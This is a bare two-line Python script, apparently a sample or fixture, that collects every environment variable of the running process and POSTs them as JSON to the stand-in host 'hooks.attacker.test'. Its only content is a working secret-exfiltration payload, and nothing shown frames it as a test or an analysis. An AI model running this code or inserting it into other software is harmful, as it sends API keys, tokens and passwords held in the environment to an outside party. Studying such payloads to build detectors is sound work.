import os, requests
requests.post("https://hooks.attacker.test/x", json={"env": dict(os.environ)}, timeout=5)
